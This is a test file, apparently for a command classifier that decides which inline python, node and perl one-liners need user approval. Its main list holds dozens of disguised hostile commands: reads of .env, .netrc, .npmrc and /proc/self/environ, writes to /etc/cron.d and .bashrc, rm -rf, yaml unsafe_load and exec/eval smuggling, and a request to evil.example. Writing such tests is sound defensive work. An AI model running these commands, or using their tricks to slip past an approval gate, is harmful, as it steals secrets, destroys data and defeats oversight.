import { describe, expect, it } from "vitest";
import { loadJudge } from "../../../tests/support/commands/load.ts";

const { classify } = await loadJudge();

/** Each line looks like code that only reads, and does more. */
const ways = [
  "python3 -c 'import sys; sys.path=[\"/tmp/x\"]; import yaml'",
  "python3 -c 'import sys; sys.path.extend([\"/tmp/x\"]); import yaml'",
  "node -e \"const fs=require('fs'); ['x','src/index.ts'].sort(fs.writeFileSync)\"",
  "node -e \"const f=require('fs'); ['src/a.ts','src/b.ts'].sort(f.renameSync)\"",
  "node -e \"['src/a.ts','src/b.ts'].sort(require('fs').copyFileSync)\"",
  "python3 -c 'import yaml; print(min([\"!!python/object/apply:posix.system [id]\"], key=yaml.unsafe_load))'",
  "python3 -c 'from yaml import load as l; print(min([\"!!python/object/apply:posix.system [id]\"], key=l))'",
  "node -pe \"require('child_process').spawnSync('rm',['-rf','build']).status\"",
  "python3 -c 'import sys; sys.meta_path=[]; print(1)'",
  "python3 -c 'import glob; print(sorted([\"x\"], key=glob.os.remove))'",
  'python3 -c \'import pathlib; print([p.read_text() for p in pathlib.Path(".").glob(".e*v")])\'',
  'python3 -c \'f=".e"+"nv"; print(open(f).read())\'',
  "node -e \"const fs=require('fs'); fs.readdirSync('.').map(x=>fs.readFileSync(x))\"",
  'python3 -c \'import json,sys; json.dump({}, open("package.json","w"))\'',
  'python3 -c \'import sys; sys.stdout=open("src/a.py","a"); print("x")\'',
  'python3 - <<\'PY\'\nfrom pathlib import Path\np = Path("a.py")\ns = p.read_text()\np.write_text("")\nPY',
  'python3 - <<\'PY\'\nfrom pathlib import Path\np = Path(".git/config")\np.write_text(p.read_text().replace("a","b"))\nPY',
  "perl -pi -e 's/a/b/' .git/config",
  "perl -pi -e 's/a/b/' .bashrc ~/.bashrc",
  'node -pe "1" -r ./evil.js',
  "node -p -r ./evil.js 1",
  "node -e \"const p=process; ['x'].forEach(p.chdir)\"",
  "node -e \"['SIGKILL'].map(process.abort)\"",
  "node -e \"['src/x','a'].sort(require('fs').promises.rename)\"",
  "python3 -ic 'print(1)'",
  'python3 -c \'from pathlib import Path; Path("a.txt").rename; print(sorted([Path("src")], key=Path.touch))\'',
  "perl -pe 's/a/b/' 'touch x|'",
  "perl -ne 'print if /x/' 'rm -rf build|'",
  "echo 'import os' | python3 -ic 'print(1)'",
  "python3 -ic 'print(1)' < x.py",
  "node -ie 1 < x.js",
  "node -i -e 1 < x.js",
  "perl -ne 'print if /x/' '>src/a'",
  "ruby -pe 'sub(\"a\",\"b\")' '|touch x'",
  'python3 -c \'from pathlib import Path; p=Path("a.txt"); print(max(["b.txt"], key=p.rename))\'',
  'python3 -c \'from pathlib import Path; p=Path("a.txt"); print(max(["b.txt"], key=p.replace))\'',
  "python3 -c 'import json; print(max([\"b.txt\"], key=json.decoder.scanner))'",
  "node -e 1 -p \"require('child_process').execSync('touch p')\"",
  "node -e 1 --print \"require('child_process').execSync('touch p')\"",
  "node -e \"['src/a.ts','src/b.ts'].sort(require('fs')['renameSync'])\"",
  "node -e \"const {renameSync=1}=require('fs'); ['a','b'].sort(renameSync)\"",
  "node -e \"const {copyFileSync=1}=require('fs'); ['/home/user/.bashrc','b'].sort(copyFileSync)\"",
  "node -e \"var fs; ['a','b'].sort(fs.renameSync)\"",
  "node -e \"var vm; ['x.js','process.exit(3)'].sort(vm.runInThisContext)\"",
  "node -e \"var module; ['child_'+'process'].map(module.require)\"",
  "node -e \"['a','b'].sort(Object.values(require('fs')).find(f=>f.name=='renameSync'))\"",
  "node -e \"const fs=require('fs'); ['a','b'].sort(Object.values(fs)[36])\"",
  'node -p "Object.values({...process})"',
  'node -p "({...process})"',
  "node -e \"Object.values(Object.getOwnPropertyDescriptors?.(Object.getPrototypeOf?.(x=>0))).find(d=>d.value.name=='Function').value?.('console.log(1)')?.()\"",
  'node -e "JSON.parse(\'{\\"toString\\":\\"console.log(42)\\"}\', [x=>0].map(Object.getPrototypeOf).map(Object.getOwnPropertyDescriptors).flatMap(Object.values).map(d=>d.value).find(v=>v&&v.name==\'Function\'))"',
  "node -e \"let f='x'; [a,f,b]=['','.e'+'nv','']; console.log(fs.readFileSync(f))\"",
  "node -e \"const fs=require('fs'); let f='x',a,b; [a,f,b]=['','.e'+'nv','']; console.log(fs.readFileSync(f,'utf8'))\"",
  "node -e \"const fs=require('fs'); let f='x'; let a=1; let b=1; [a,f,b]=['','.e'+'nv','']; console.log(fs.readFileSync(f,'utf8'))\"",
  'python3 -c \'f="x"; (a,f)=(1,".e"+"nv"); print(open(f).read())\'',
  'python3 -c \'f="x"; a,f,b=1,".e"+"nv",2; print(open(f).read())\'',
  'python3 -c \'f="x.txt"; s=open(f).read(); (a,f)=(0,"/etc/cron.d/"+"x"); open(f,"w").write(s+"x")\'',
  'python3 -c \'from pathlib import Path; p=Path("a.txt"); p.replace("/etc/cron.d/x",)\'',
  'python3 -c \'from pathlib import Path; p=Path("a.txt"); p.replace("src/index.ts",)\'',
  'python3 -c \'print(min(["print(42)"], key=(x for x in [1]).gi_frame.f_builtins["exec"]))\'',
  'python3 -c \'g=(x for x in [1]); b=g.gi_frame.f_builtins; e=b["ev"+"al"]\'',
  'python3 -c \'g=(x for x in [1]); b=g.gi_frame.f_builtins; e=b["eval"]; print(min(["1+1"], key=e))\'',
  "python3 -c 'print([0 for exec in []]); print(min([\"print(42)\"], key=exec))'",
  "python3 -c 'print([0 for eval in []]); print(min([\"print(42)\"], key=eval))'",
  "python3 -c 'print([0 for eval in []]); (len,a)=(eval,1); len(\"print(42)\")'",
  "python3 -c 'print([0 for os in []]); from os import system; system(\"touch p\")'",
  "python3 -c 'print([0 for posix in []]); from posix import system; system(\"touch p\")'",
  'python3 -c \'print([0 for pickle in []]); import pickle; pickle.load(open("x","rb"))\'',
  "python3 -c 'print([0 for requests in []]); import requests; requests.get(\"http://evil.example/x\")'",
  'python3 -c \'print([0 for os in []]); import os; os.replace("a","b")\'',
  "python3 -c 'from pathlib import Path; print(max([True], key=Path(\"a.txt\").unlink))'",
  "python3 -c 'from pathlib import Path; print(max([Path(\"build\")], key=Path.rmdir))'",
  'python3 -c \'import pathlib; print([p.read_text() for p in pathlib.Path("/root").rglob("*.json")])\'',
  "python3 -c 'import glob; print([open(f).read() for f in glob.glob(\"/root/*/*.json\")])'",
  'python3 -c \'from pathlib import Path; print([p.read_text() for p in Path("/").rglob("*.yml")])\'',
  'python3 -c \'from pathlib import Path; print([p.read_text() for p in Path("/home").rglob("*.toml")])\'',
  'python3 -c \'from pathlib import Path; print([p.read_text() for p in Path(".").rglob("*.netrc")])\'',
  'python3 -c \'from pathlib import Path; print([p.read_text() for p in Path(".").rglob("*.npmrc")])\'',
  'python3 -c \'from pathlib import Path; print([p.read_text() for p in Path(".").rglob("*.p*.asc")])\'',
  "python3 -c 'print(open(\"/proc/self/environ\").read())'",
  "perl -pe 's/(a)/$1[system(\"touch p\")]/' package.json",
  "perl -pe 's/(a)/$1{system(\"touch p\")}/' package.json",
  "perl -pe 's/(a)/$&[system(\"touch p\")]/' package.json",
  "perl -ne 'print \"$_[system(q(touch p))]\" if /a/' package.json",
  "perl -ne 'print \"$_{system(q(touch p))}\" if /a/' package.json",
  "perl -pe 's/(*{system \"touch p\"})a/b/' package.json",
  "perl -ne 'print if /(*{system \"touch p\"})a/' package.json",
  "perl -pi -e 's/a/$1->[system(\"touch p\")]/' package.json",
  "python3 - <<'PY'\nfor exec in []:\n  pass\nprint(min([\"print(42)\"], key=exec))\nPY",
  // Harmless, and of no shape that is known: unsure means to ask.
  `python3 -c 'import numpy; print(numpy.__version__)'`,
  `python3 -c 'from pathlib import Path; print(Path("notes.md").read_text()[:80])'`,
  `console='x'; node -p "globalThis.process['en' + 'v']"`,
  `node -p "globalThis['process']['env']"`,
  `node -p "fs['readFileSync']('.npmrc', 'utf8')"`,
];

const honest = [
  `node -p "require('./package.json').scripts.watch"`,
  `node -p "process.versions.node + ' ' + process.platform"`,
  `node -e "const fs=require('fs');console.log(JSON.parse(fs.readFileSync('a.json','utf8')).name)"`,
  `python3 -c 'import sys; print(sys.path)'`,
  `python3 -c 'import json,sys; print(len(json.load(sys.stdin)))' < a.json`,
  `python3 -c 'import ast; ast.parse(open("a.py").read()); print("ok")'`,
  `python3 -c 'print(2**10 + 1)'`,
  `perl -pe 's/a/b/' src/a.txt`,
];

describe("[S-9] inline code that is said to only look", () => {
  it.each(ways)("%s is asked about", (line) => {
    expect(classify(line, {}).gated).toBe(true);
  });

  it.each(honest)("%s is not asked about", (line) => {
    expect(classify(line, {}).gated).toBe(false);
  });

  it("is looked at once, however it is repeated", () => {
    for (const line of [`node -p "1${"+1".repeat(400)}!"`, `node -p "${" ".repeat(900)}!"`])
      expect(classify(line, {}).gated).toBe(true);
  });
});
